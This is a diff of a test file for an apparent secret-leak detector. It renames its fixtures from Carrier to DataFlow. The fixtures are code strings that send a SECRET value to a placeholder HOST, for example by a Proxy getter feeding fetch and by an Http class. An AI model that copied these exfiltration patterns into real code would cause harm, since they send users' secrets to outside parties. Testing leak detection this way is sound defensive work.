@@ -1,7 +1,12 @@
 import { describe, test } from "vitest";
-import { type Carrier, expectHarmlessOnOwnSite, expectHarmlessWithoutSecret, expectLeak } from "../testing/carriers.ts";
+import {
+	type DataFlow,
+	expectHarmlessOnOwnSite,
+	expectHarmlessWithoutSecret,
+	expectLeak,
+} from "../testing/data-flow-checks.ts";
 
-const CARRIERS: readonly Carrier[] = [
+const FLOWS: readonly DataFlow[] = [
 	[
 		"a proxy",
 		`const all = new Proxy({}, { get: (_target, name) => name === "jar" && SECRET }); fetch("HOST/" + all.jar);`,
@@ -61,9 +66,9 @@ new App(new Http("HOST"), () => SECRET).run();`,
 ];
 
 describe("data through objects and classes", () => {
-	test.each(CARRIERS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
-	test.each(CARRIERS)("%s carries nothing when there is nothing to carry", (_title, code) =>
+	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
+	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
 		expectHarmlessWithoutSecret(code),
 	);
-	test.each(CARRIERS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
+	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
 });
